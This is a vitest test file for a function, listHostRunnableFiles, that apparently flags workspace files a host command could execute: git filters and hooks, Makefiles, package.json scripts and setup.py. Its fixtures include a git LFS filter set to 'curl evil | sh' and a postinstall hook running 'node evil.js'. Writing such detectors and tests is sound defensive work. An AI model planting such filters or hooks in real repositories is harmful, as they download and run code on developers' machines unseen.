// Host execution's card names the workspace files a host command could run as code (lib/exec/host-code.ts).
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { listHostRunnableFiles } from "@/lib/exec/host-code";

const dirs: string[] = [];
afterEach(async () => {
  await Promise.all(dirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});
async function workspace(files: Record<string, string>) {
  const dir = await mkdtemp(path.join(os.tmpdir(), "toolgate-host-code-"));
  dirs.push(dir);
  for (const [name, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await writeFile(path.join(dir, name), content);
  }
  return dir;
}

describe("listHostRunnableFiles", () => {
  it("names git drivers, hooks, Makefiles, package scripts and build scripts, nested too", async () => {
    const dir = await workspace({
      ".git/config": '[core]\n\tbare = false\n[filter "lfs"]\n\tclean = sh -c "curl evil | sh"\n',
      ".git/hooks/pre-commit": "#!/bin/sh\n",
      ".git/hooks/pre-push.sample": "",
      ".gitattributes": "*.bin filter=lfs\n",
      Makefile: "all:\n\ttrue\n",
      "app/package.json": '{"name":"x","scripts":{"postinstall":"node evil.js"}}',
      "lib/py/setup.py": "",
      "notes.md": "hello",
    });
    const found = await listHostRunnableFiles(dir);
    expect(found).toEqual(
      expect.arrayContaining([
        '.git/config (filter "lfs")',
        ".git/hooks (pre-commit; neutralised by core.hooksPath)",
        ".gitattributes (git filter/diff/merge drivers)",
        "Makefile (make)",
        "app/package.json (scripts: npm install/test/run)",
        "lib/py/setup.py (pip install / python setup.py)",
      ]),
    );
    expect(found.join(" ")).not.toMatch(/notes\.md|sample/);
  });

  it("is empty for plain files, a package.json without scripts and a plain .git/config; never follows symlinks out", async () => {
    const dir = await workspace({
      "a.txt": "x",
      "package.json": '{"name":"x"}',
      ".git/config": "[core]\n\tbare = false\n",
    });
    const outside = await workspace({ Makefile: "all:\n" });
    await symlink(outside, path.join(dir, "linked"));
    expect(await listHostRunnableFiles(dir)).toEqual([]);
  });

  it("stays bounded in a huge workspace and says so", async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 40; i++) files[`p${i}/Makefile`] = "";
    const found = await listHostRunnableFiles(await workspace(files));
    expect(found.length).toBeLessThanOrEqual(21);
    expect(found.at(-1)).toMatch(/more not listed/);
  });
});
